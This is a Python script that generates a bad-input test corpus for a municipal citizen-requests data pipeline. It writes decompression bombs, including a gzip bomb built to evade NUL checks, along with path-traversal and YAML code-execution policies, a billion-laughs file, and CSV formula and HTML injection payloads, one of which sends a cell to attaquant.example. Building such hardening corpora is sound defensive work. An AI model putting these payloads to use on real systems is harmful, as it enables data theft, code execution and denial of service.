"""Write the bad-input corpus into ``tests/data/bad/``: malformed, hostile and oversized inputs.

Every file is built from fixed seeds and fixed timestamps, so the corpus is the same on every
machine. Small files are committed; large ones (``large=True``) go to ``tests/data/bad/generated/``,
which git ignores, and are rebuilt on demand (``tests/hardening/test_bad_inputs.py`` calls
:func:`build`). Nothing here imports the project: the corpus does not depend on the code it tests.

    python scripts/make_bad_corpus.py            # write every file
    python scripts/make_bad_corpus.py --list     # what each file is
"""

from __future__ import annotations

import argparse
import bz2
import csv
import gzip
import hashlib
import io
import json
import lzma
import random
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
DEFAULT_DIR = ROOT / "tests" / "data" / "bad"
GENERATED = "generated"

#: The columns of the ``citizen_requests.training`` dataset, in the policy's order.
HEADER = ["request_id", "received_at", "message", "arrondissement", "channel", "age_band", "category"]
MESSAGES = [
    ("Le lampadaire est en panne devant l'école", "eclairage"),
    ("Des dépôts sauvages s'accumulent près du marché", "proprete"),
    ("Un nid-de-poule énorme au carrefour", "voirie"),
    ("Le conteneur de tri n'a pas été vidé", "dechets"),
    ("L'abribus est cassé depuis lundi", "transports"),
    ("Une fuite d'eau inonde la chaussée", "eau_assainissement"),
    ("Un arbre menace de tomber dans le square", "espaces_verts"),
    ("Des voitures stationnent sur le trottoir", "stationnement"),
]
#: Expanded size of each archive bomb: far above any memory bound the tests state.
BOMB_BYTES = 1 << 30
MIB = 1 << 20


@dataclass(frozen=True)
class BadFile:
    name: str
    #: ``data`` (a dataset file), ``policy`` (a use-case policy) or ``suite`` (a Great Expectations suite)
    group: str
    what: str
    build: Callable[[], bytes]
    #: Large files are generated on demand, never committed.
    large: bool = False

    def path(self, root: Path = DEFAULT_DIR) -> Path:
        return root / GENERATED / self.name if self.large else root / self.name


# ------------------------------------------------------------------------------------------------
# CSV material


def rows(n: int = 120, seed: int = 7) -> list[list[str]]:
    """Rows that pass the ``citizen_requests.training`` quality suite (ids, sets, dates, 100 rows or more)."""
    rng = random.Random(seed)
    out = []
    for i in range(n):
        message, category = MESSAGES[i % len(MESSAGES)]
        out.append(
            [
                f"DEM-101-{i:07d}",
                f"2026-01-{1 + i % 28:02d}T{8 + i % 10:02d}:15:00",
                message,
                f"132{1 + i % 16:02d}",
                rng.choice(["web", "telephone", "courriel"]),
                rng.choice(["18-29", "30-44", "45-59"]),
                category,
            ]
        )
    return out


def csv_text(
    header: list[str], body: list[list[str]], sep: str = ";", newline: str = "\n", quoting: int = csv.QUOTE_MINIMAL
) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=sep, quoting=quoting, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(body)
    return buffer.getvalue()


def clean_csv() -> bytes:
    return csv_text(HEADER, rows()).encode("utf-8")


def truncated_in_quote() -> bytes:
    body = rows()
    body[30][2] = "Le lampadaire clignote; il faut le changer"  # the separator forces quotes
    data = csv_text(HEADER, body).encode("utf-8")
    cut = data.index(b'"Le lampadaire clignote;') + 12
    return data[:cut]


def truncated_mid_row() -> bytes:
    data = clean_csv()
    return data[: data.rindex(b"\n", 0, len(data) - 1) + 25]  # the last row stops after its second field


def unterminated_quote() -> bytes:
    lines = clean_csv().decode("utf-8").splitlines(keepends=True)
    fields = lines[5].split(";")
    fields[2] = '"' + fields[2]  # opened, never closed: the rest of the file becomes one field
    lines[5] = ";".join(fields)
    return "".join(lines).encode("utf-8")


def wrong_separator(sep: str) -> Callable[[], bytes]:
    return lambda: csv_text(HEADER, rows(), sep=sep).encode("utf-8")


def latin1_declared_utf8() -> bytes:
    return clean_csv().decode("utf-8").encode("latin-1")


def cp1252_quotes() -> bytes:
    body = rows()
    body[3][2] = "L\u2019abribus est cass\u00e9 \u2013 \u00ab urgent \u00bb"
    return csv_text(HEADER, body).encode("cp1252")


def utf8_bom() -> bytes:
    return b"\xef\xbb\xbf" + clean_csv()


def utf16_bom() -> bytes:
    return clean_csv().decode("utf-8").encode("utf-16")  # BOM + UTF-16 LE, declared utf-8 by the policy


def nul_in_head() -> bytes:
    data = clean_csv()
    return data[:200] + b"\x00\x00\x00" + data[200:]


def nul_after_head() -> bytes:
    """NUL bytes past the first 4 KiB, where a quick look at the head does not see them."""
    data = csv_text(HEADER, rows(400)).encode("utf-8")
    at = data.index(b"\n", 20_000) + 1
    return (
        data[:at] + b"DEM-101-9999999;2026-01-02T10:00:00;Le\x00lampadaire\x00;13201;web;18-29;eclairage\n" + data[at:]
    )


def cell_10mb() -> bytes:
    """One message cell of 10 MiB of French words (a pasted document, or an attack on the analysers)."""
    rng = random.Random(10)
    words = [
        "le",
        "lampadaire",
        "est",
        "en",
        "panne",
        "devant",
        "chez",
        "moi",
        "merci",
        "de",
        "venir",
        "vite",
        "la",
        "rue",
        "est",
        "sombre",
        "depuis",
        "trois",
        "jours",
    ]
    parts: list[str] = []
    size = 0
    while size < 10 * MIB:
        word = rng.choice(words)
        parts.append(word)
        size += len(word) + 1
    big = " ".join(parts)[: 10 * MIB]
    body = rows(20)
    body[10][2] = big
    return csv_text(HEADER, body).encode("utf-8")


def many_columns(n: int, n_rows: int = 2) -> Callable[[], bytes]:
    def build() -> bytes:
        header = HEADER + [f"extra_{i}" for i in range(n - len(HEADER))]
        body = [r + [str((i + j) % 10) for j in range(n - len(HEADER))] for i, r in enumerate(rows(n_rows))]
        return csv_text(header, body).encode("utf-8")

    return build


def header_only() -> bytes:
    return (";".join(HEADER) + "\n").encode("utf-8")


def ragged_rows() -> bytes:
    lines = clean_csv().decode("utf-8").splitlines(keepends=True)
    lines[8] = lines[8].rstrip("\n") + ";surplus;encore\n"
    return "".join(lines).encode("utf-8")


def binary_garbage() -> bytes:
    return random.Random(99).randbytes(64 * 1024)


def binary_garbage_no_nul() -> bytes:
    """Random bytes without NUL: not caught by the NUL test, and not valid UTF-8 either."""
    return bytes(b or 0xFF for b in random.Random(98).randbytes(32 * 1024))


#: Cells that a spreadsheet would run as formulas (CSV injection), and HTML that a report must escape.
FORMULAS = [
    '=HYPERLINK("http://attaquant.example/?d="&A1;"Cliquez ici")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
HTML_PAYLOAD = '<script>alert("charter")</script>'
HTML_COLUMN = '<img src=x onerror=alert("charter")>'


def formula_injection() -> bytes:
    body = rows()
    for i, formula in enumerate(FORMULAS):
        body[i][2] = formula  # free text: masked, kept
        body[i][6] = formula  # the label: kept as is
        body[i][4] = FORMULAS[(i + 1) % len(FORMULAS)]  # a category feature
    return csv_text(HEADER, body, quoting=csv.QUOTE_ALL).encode("utf-8")  # a bare CR would end the row


def html_injection() -> bytes:
    body = rows()
    for r in body[:5]:
        r[6] = HTML_PAYLOAD
        r[2] = f"{HTML_PAYLOAD} et {HTML_COLUMN}"
    return csv_text([*HEADER, HTML_COLUMN], [[*r, HTML_PAYLOAD] for r in body]).encode("utf-8")


# ------------------------------------------------------------------------------------------------
# Parquet


def _parquet(seed_rows: list[list[str]]) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({name: [r[i] for r in seed_rows] for i, name in enumerate(HEADER)})
    sink = io.BytesIO()
    pq.write_table(table, sink, compression="NONE")
    return sink.getvalue()


def parquet_corrupt_footer() -> bytes:
    data = bytearray(_parquet(rows()))
    footer_length = int.from_bytes(data[-8:-4], "little")
    start = len(data) - 8 - footer_length
    for i in range(start, len(data) - 8, 3):  # the Thrift footer, bytes scrambled; the magic kept
        data[i] ^= 0x5A
    return bytes(data)


def parquet_bad_footer_length() -> bytes:
    data = bytearray(_parquet(rows()))
    data[-8:-4] = (len(data) * 4).to_bytes(4, "little")  # a footer longer than the file
    return bytes(data)


def parquet_truncated() -> bytes:
    data = _parquet(rows())
    return data[: len(data) // 2]


def parquet_bomb() -> bytes:
    """20 million identical rows, dictionary- and run-length-encoded then zstd-compressed: a few hundred KiB."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    n = 20_000_000
    codes = pa.array(np.zeros(n, dtype=np.int32))
    table = pa.table(
        {
            name: pa.DictionaryArray.from_arrays(codes, pa.array([value]))
            for name, value in zip(HEADER, rows(1)[0], strict=True)
        }
    )
    sink = io.BytesIO()
    pq.write_table(table, sink, compression="zstd", row_group_size=n)
    return sink.getvalue()


def parquet_is_csv() -> bytes:
    return clean_csv()


# ------------------------------------------------------------------------------------------------
# Archive bombs: each expands to BOMB_BYTES of CSV rows, from a file of a few KiB to 1 MiB


def _bomb_block() -> bytes:
    line = b"DEM-101-0000001;2026-01-02T10:00:00;Le lampadaire est en panne;13201;web;18-29;eclairage\n"
    return line * (MIB // len(line)) + b"x" * (MIB % len(line))  # exactly 1 MiB


def _bomb_header() -> bytes:
    return (";".join(HEADER) + "\n").encode()


def zip_bomb() -> bytes:
    """One member, deflated: 1 GiB from about 1 MiB (the ratio of a classic zip bomb, over 1000:1)."""
    block = _bomb_block()
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        info = zipfile.ZipInfo("citizen_requests.csv", date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            member.write(_bomb_header())
            for _ in range(BOMB_BYTES // MIB):
                member.write(block)
    return sink.getvalue()


def _gzip_stored_member(data: bytes) -> bytes:
    """A gzip member without a single NUL byte in its header and data: FTEXT set, a non-zero mtime, one stored
    deflate block whose length and complement have no zero byte. A check that looks for NUL bytes in the head of
    the file sees plain text."""
    if len(data) != 0x4141:
        raise ValueError(f"the stored block holds 0x4141 bytes, not {len(data):#x}")
    header = b"\x1f\x8b\x08\x01" + b"\x5f" * 4 + b"\x02\x03"
    stored = b"\x01" + (0x4141).to_bytes(2, "little") + (0xBEBE).to_bytes(2, "little") + data
    return header + stored + zlib.crc32(data).to_bytes(4, "little") + len(data).to_bytes(4, "little")


def gzip_bomb() -> bytes:
    """Concatenated gzip members (a valid gzip stream): 1 GiB from about 4 MiB. The first member is the header
    and rows in plain sight, so the first 16 KiB of the file hold no NUL byte."""
    line = _bomb_block()[: _bomb_block().index(b"\n") + 1]
    text = _bomb_header() + line * ((0x4141 - len(_bomb_header())) // len(line) - 1)
    pad = 0x4141 - len(text) - len(line)
    text += line.replace(b";Le lampadaire", b";Le lampadaire" + b" " * pad)  # exactly 0x4141 bytes, whole rows
    member = gzip.compress(_bomb_block(), compresslevel=9, mtime=0)
    return _gzip_stored_member(text) + member * (BOMB_BYTES // MIB)


def bz2_bomb() -> bytes:
    """Concatenated bzip2 streams: 1 GiB from a few KiB, and maybe no NUL byte in the head at all."""
    stream = bz2.compress(_bomb_block() * 16, 9)
    return bz2.compress(_bomb_header(), 9) + stream * (BOMB_BYTES // (16 * MIB))


def xz_bomb() -> bytes:
    stream = lzma.compress(_bomb_block() * 16, preset=6)
    return lzma.compress(_bomb_header(), preset=6) + stream * (BOMB_BYTES // (16 * MIB))


def zip_named_csv() -> bytes:
    """A zip archive that pretends to be a CSV by its name."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("data.csv", date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, _bomb_header() + _bomb_block() * 4)
    return sink.getvalue()


# ------------------------------------------------------------------------------------------------
# Policies: a minimal valid policy, then one defect each


def base_policy() -> dict:
    columns = [
        {
            "name": "request_id",
            "role": "identifier",
            "type": "string",
            "personal_data": "indirect_identifier",
            "pseudonymise": True,
        },
        {"name": "received_at", "role": "timestamp", "type": "datetime"},
        {
            "name": "message",
            "role": "free_text",
            "type": "string",
            "personal_data": "free_text",
            "pseudonymise": True,
            "pii_allowed": ["PERSON", "EMAIL_ADDRESS", "FR_PHONE", "LOCATION"],
        },
        {"name": "arrondissement", "role": "sensitive_attribute", "type": "category", "personal_data": "location"},
        {"name": "channel", "role": "feature", "type": "category"},
        {"name": "age_band", "role": "sensitive_attribute", "type": "category", "personal_data": "demographic"},
        {"name": "category", "role": "label", "type": "category"},
    ]
    return {
        "id": "bad_inputs_probe",
        "title": "Sonde des entrées malformées",
        "purpose": "Vérifier que les garde-fous refusent proprement les entrées malformées ou hostiles.",
        "legal_basis": "public_task",
        "owner": {"name": "Équipe données", "email": "donnees@ampmetropole.example"},
        "approvers": [{"name": "Claire Martin", "email": "claire.martin@ampmetropole.example"}],
        "alert_recipients": ["rssi@ampmetropole.example"],
        "dpo": {"name": "Délégué à la protection des données", "email": "dpo@ampmetropole.example"},
        "decision_support": False,
        "datasets": [
            {
                "id": "training",
                "role": "training",
                "format": "csv",
                "path": "bad/training.csv",
                "csv": {"separator": ";", "decimal": ",", "encoding": "utf-8"},
                "personal_data": True,
                "data_subjects": ["usagers"],
                "retention": {"days": 365, "date_column": "received_at"},
                "suite": "citizen_requests.training.json",
                "columns": columns,
            }
        ],
        "model": {"kind": "text_classifier", "target": "category", "metric": "f1_macro"},
    }


def policy_yaml(mutate: Callable[[dict], None] | None = None) -> Callable[[], bytes]:
    def build() -> bytes:
        policy = base_policy()
        if mutate:
            mutate(policy)
        return json.dumps(policy, ensure_ascii=False, indent=1).encode("utf-8")  # JSON is YAML

    return build


def _set_dataset(key: str, value: object) -> Callable[[dict], None]:
    def mutate(policy: dict) -> None:
        policy["datasets"][0][key] = value

    return mutate


def _unknown_key(policy: dict) -> None:
    policy["datasets"][0]["columns"][2]["pii_alowed"] = policy["datasets"][0]["columns"][2].pop("pii_allowed")


def yaml_text(text: str) -> Callable[[], bytes]:
    return lambda: text.encode("utf-8")


BILLION_LAUGHS = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
id: bad_inputs_probe
title: *i
purpose: *i
tags: *i
"""

PYTHON_TAG = """\
id: bad_inputs_probe
title: !!python/object/apply:os.system ["echo pwned > /tmp/charter-pwned"]
"""

INVALID_YAML = """\
id: bad_inputs_probe
datasets:
  - id: training
   role: training
"""


# ------------------------------------------------------------------------------------------------
# Great Expectations suites


def suite(expectations: object, **extra: object) -> Callable[[], bytes]:
    return lambda: json.dumps(
        {"name": "bad_inputs_probe.training", "expectations": expectations, "meta": {}, **extra},
        ensure_ascii=False,
        indent=1,
    ).encode("utf-8")


NOT_NULL = {
    "type": "expect_column_values_to_not_be_null",
    "kwargs": {"column": "request_id"},
    "meta": {"severity": "error"},
}

CORPUS: list[BadFile] = [
    # the control: the same rows, well formed (not counted as bad)
    BadFile(
        "control_clean.csv", "data", "a well-formed delivery of citizen_requests.training (the control)", clean_csv
    ),
    # CSV
    BadFile("truncated_in_quote.csv", "data", "cut in the middle of a quoted field", truncated_in_quote),
    BadFile("truncated_mid_row.csv", "data", "cut in the middle of the last row (fields missing)", truncated_mid_row),
    BadFile("unterminated_quote.csv", "data", "a quote opened in row 5 and never closed", unterminated_quote),
    BadFile("wrong_separator_comma.csv", "data", "comma-separated where the policy declares ';'", wrong_separator(",")),
    BadFile("wrong_separator_tab.csv", "data", "tab-separated where the policy declares ';'", wrong_separator("\t")),
    BadFile("latin1_declared_utf8.csv", "data", "Latin-1 bytes in a file declared UTF-8", latin1_declared_utf8),
    BadFile("cp1252_declared_utf8.csv", "data", "Windows-1252 curly quotes in a file declared UTF-8", cp1252_quotes),
    BadFile("bom_utf8.csv", "data", "a UTF-8 byte-order mark before the header", utf8_bom),
    BadFile("bom_utf16.csv", "data", "UTF-16 with its BOM, declared UTF-8", utf16_bom),
    BadFile("nul_bytes.csv", "data", "NUL bytes in the first KiB", nul_in_head),
    BadFile("nul_bytes_late.csv", "data", "NUL bytes inside a cell after 20 KiB", nul_after_head),
    BadFile("cell_10mb.csv", "data", "one cell of 10 MiB of words", cell_10mb, large=True),
    BadFile("columns_100k.csv", "data", "100,000 columns", many_columns(100_000), large=True),
    BadFile("columns_10k.csv", "data", "10,000 columns, for the scanner", many_columns(10_000, 5), large=True),
    BadFile("empty.csv", "data", "0 bytes", lambda: b""),
    BadFile("blank_lines.csv", "data", "only blank lines", lambda: b"\n\n   \n\n"),
    BadFile("header_only.csv", "data", "the header and no row", header_only),
    BadFile("ragged_rows.csv", "data", "a row with two fields too many", ragged_rows),
    BadFile("binary_garbage.csv", "data", "64 KiB of random bytes", binary_garbage),
    BadFile("binary_garbage_no_nul.csv", "data", "random bytes without NUL (invalid UTF-8)", binary_garbage_no_nul),
    BadFile(
        "formula_injection.csv",
        "data",
        "spreadsheet formulas in cells (=HYPERLINK, @SUM, +, -, tab, CR)",
        formula_injection,
    ),
    BadFile("html_injection.csv", "data", "HTML and script in cells and in a column name", html_injection),
    # Parquet
    BadFile(
        "parquet_corrupt_footer.parquet", "data", "Parquet whose Thrift footer is scrambled", parquet_corrupt_footer
    ),
    BadFile(
        "parquet_bad_footer_length.parquet",
        "data",
        "Parquet whose footer length points before the file",
        parquet_bad_footer_length,
    ),
    BadFile("parquet_truncated.parquet", "data", "the first half of a Parquet file", parquet_truncated),
    BadFile(
        "parquet_bomb.parquet",
        "data",
        "a Parquet bomb: 20 million encoded rows in a few hundred KiB",
        parquet_bomb,
        large=True,
    ),
    BadFile("parquet_is_csv.parquet", "data", "a CSV file named .parquet", parquet_is_csv),
    BadFile("parquet_empty.parquet", "data", "0 bytes named .parquet", lambda: b""),
    # archive bombs
    BadFile("zip_bomb.csv.zip", "data", "a zip bomb: 1 GiB of rows deflated to about 1 MiB", zip_bomb, large=True),
    BadFile(
        "gzip_bomb.csv.gz",
        "data",
        "a gzip bomb: 1 GiB of rows in concatenated members, no NUL byte in its head",
        gzip_bomb,
        large=True,
    ),
    BadFile("bz2_bomb.csv.bz2", "data", "a bzip2 bomb: 1 GiB of rows from a few KiB", bz2_bomb, large=True),
    BadFile("xz_bomb.csv.xz", "data", "an xz bomb: 1 GiB of rows in concatenated streams", xz_bomb, large=True),
    BadFile("zip_named_csv.csv", "data", "a zip archive named .csv", zip_named_csv),
    # policies
    BadFile("policy_control.yaml", "policy", "a valid minimal policy (the control)", policy_yaml()),
    BadFile(
        "policy_path_traversal.yaml",
        "policy",
        "a dataset path ../../etc/passwd",
        policy_yaml(_set_dataset("path", "../../etc/passwd")),
    ),
    BadFile(
        "policy_absolute_path.yaml",
        "policy",
        "a dataset path /etc/passwd",
        policy_yaml(_set_dataset("path", "/etc/passwd")),
    ),
    BadFile(
        "policy_windows_path.yaml",
        "policy",
        "a dataset path C:\\Windows\\win.ini",
        policy_yaml(_set_dataset("path", "C:\\Windows\\win.ini")),
    ),
    BadFile(
        "policy_missing_suite.yaml",
        "policy",
        "a suite that does not exist",
        policy_yaml(_set_dataset("suite", "no_such_suite.json")),
    ),
    BadFile(
        "policy_suite_traversal.yaml",
        "policy",
        "a suite path ../../../../../etc/passwd",
        policy_yaml(_set_dataset("suite", "../../../../../etc/passwd")),
    ),
    BadFile("policy_unknown_key.yaml", "policy", "a misspelt key (pii_alowed)", policy_yaml(_unknown_key)),
    BadFile("policy_invalid_yaml.yaml", "policy", "bad indentation", yaml_text(INVALID_YAML)),
    BadFile("policy_not_mapping.yaml", "policy", "a YAML list at the top level", yaml_text("- a\n- b\n")),
    BadFile(
        "policy_billion_laughs.yaml", "policy", "YAML aliases expanding to 10^9 strings", yaml_text(BILLION_LAUGHS)
    ),
    BadFile(
        "policy_python_tag.yaml",
        "policy",
        "a !!python/object tag (code execution with an unsafe loader)",
        yaml_text(PYTHON_TAG),
    ),
    BadFile("policy_binary.yaml", "policy", "random bytes", binary_garbage_no_nul),
    BadFile("policy_empty.yaml", "policy", "0 bytes", lambda: b""),
    # suites
    BadFile("suite_invalid_json.json", "suite", "JSON cut short", lambda: b'{"name": "x", "expectations": [{"type": '),
    BadFile(
        "suite_unknown_expectation.json",
        "suite",
        "an expectation type GX does not have",
        suite(
            [
                {
                    "type": "expect_column_to_be_trustworthy",
                    "kwargs": {"column": "message"},
                    "meta": {"severity": "error"},
                }
            ]
        ),
    ),
    BadFile(
        "suite_bad_kwargs.json",
        "suite",
        "kwargs of the wrong type",
        suite(
            [
                {
                    "type": "expect_column_values_to_be_between",
                    "kwargs": {"column": "channel", "min_value": {"a": 1}},
                    "meta": {"severity": "error"},
                }
            ]
        ),
    ),
    BadFile(
        "suite_no_severity.json", "suite", "an expectation without meta.severity", suite([{**NOT_NULL, "meta": {}}])
    ),
    BadFile("suite_not_object.json", "suite", "a JSON list at the top level", lambda: b"[1, 2, 3]"),
    BadFile("suite_binary.json", "suite", "random bytes", binary_garbage_no_nul),
]

BY_NAME = {f.name: f for f in CORPUS}


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def build(root: Path = DEFAULT_DIR, *, names: list[str] | None = None, only_missing: bool = True) -> dict[str, Path]:
    """Write the corpus (or ``names``) under ``root``; with ``only_missing``, keep large files already there."""
    out: dict[str, Path] = {}
    (root / GENERATED).mkdir(parents=True, exist_ok=True)
    for item in CORPUS:
        if names is not None and item.name not in names:
            continue
        path = item.path(root)
        if not (only_missing and item.large and path.exists()):
            data = item.build()
            if not path.exists() or path.read_bytes() != data:
                tmp = path.with_name(path.name + ".tmp")
                tmp.write_bytes(data)
                tmp.replace(path)
        out[item.name] = path
    return out


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument(
        "--out", type=Path, default=DEFAULT_DIR, help=f"target folder (default {DEFAULT_DIR.relative_to(ROOT)})"
    )
    parser.add_argument("--list", action="store_true", help="list the files and what each one is, write nothing")
    parser.add_argument("--force", action="store_true", help="rebuild the large files too")
    args = parser.parse_args(argv)
    if args.list:
        for item in CORPUS:
            print(f"{item.group:7} {item.name:36} {'(generated) ' if item.large else ''}{item.what}")
        return 0
    paths = build(args.out, only_missing=not args.force)
    for path in paths.values():
        print(f"{path.stat().st_size:>12,}  {path.relative_to(args.out) if path.is_relative_to(args.out) else path}")
    print(f"{len(paths)} files in {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
